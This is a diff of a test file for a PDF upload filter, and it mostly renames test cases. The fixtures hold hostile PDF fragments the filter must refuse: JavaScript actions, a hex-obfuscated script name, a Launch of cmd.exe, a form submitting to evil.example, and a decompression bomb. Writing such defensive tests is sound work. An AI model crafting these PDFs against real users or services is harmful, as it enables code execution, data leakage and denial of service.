@@ -1,3 +1,4 @@
+// Uploaded papers: PDFs that could do more than show a page are refused.
 import { deflateSync } from 'node:zlib';
 import PDFDocument from 'pdfkit';
 import { expect, test } from 'vitest';
@@ -20,7 +21,7 @@ const packed = (text: string) =>
     Buffer.from('\nendstream endobj'),
   ]);
 
-test('a paper that can only be read is kept unchanged', async () => {
+test('a paper without active content is kept unchanged', async () => {
   const bytes = await paper();
   expect(await encodePaper(bytes)).toMatchObject({ bytes, contentType: 'application/pdf' });
   const objects = pdf(packed('<</Type /Catalog /Pages 1 0 R>>'));
@@ -29,15 +30,15 @@ test('a paper that can only be read is kept unchanged', async () => {
 
 test.each([
   ['a script', pdf('<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>')],
-  ['a script in letters by number', pdf('<</S /J#61vaScript /JS (app.alert(1))>>')],
+  ['a script whose name is written in hex codes', pdf('<</S /J#61vaScript /JS (app.alert(1))>>')],
   ['a script in a packed object', pdf(packed('<</S /JavaScript /JS (app.alert(1))>>'))],
-  ['a script behind a stream that says it ends', pdf('% stream\n', '<</S /JavaScript>>', '\n% endstream')],
+  ['a script between fake stream markers', pdf('% stream\n', '<</S /JavaScript>>', '\n% endstream')],
   ['a program', pdf('<</S /Launch /F (cmd.exe)>>')],
   ['another file', pdf('<</Names <</EmbeddedFiles 3 0 R>>>>')],
   ['a form that sends', pdf('<</S /SubmitForm /F (https://evil.example)>>')],
-  ['a cipher over its objects', pdf('<</Encrypt 4 0 R>>')],
-  ['objects in a rare packing', pdf('<</Type /ObjStm /Filter /ASCIIHexDecode>>\nstream\n2f4a\nendstream')],
-  ['a bomb', pdf(packed('0'.repeat(70_000_000)))],
+  ['encryption', pdf('<</Encrypt 4 0 R>>')],
+  ['objects in a rare encoding', pdf('<</Type /ObjStm /Filter /ASCIIHexDecode>>\nstream\n2f4a\nendstream')],
+  ['a stream that unpacks to 70 MB', pdf(packed('0'.repeat(70_000_000)))],
 ])('a paper with %s is refused', async (_, bytes) => {
   expect(await encodePaper(bytes)).toBeNull();
 });
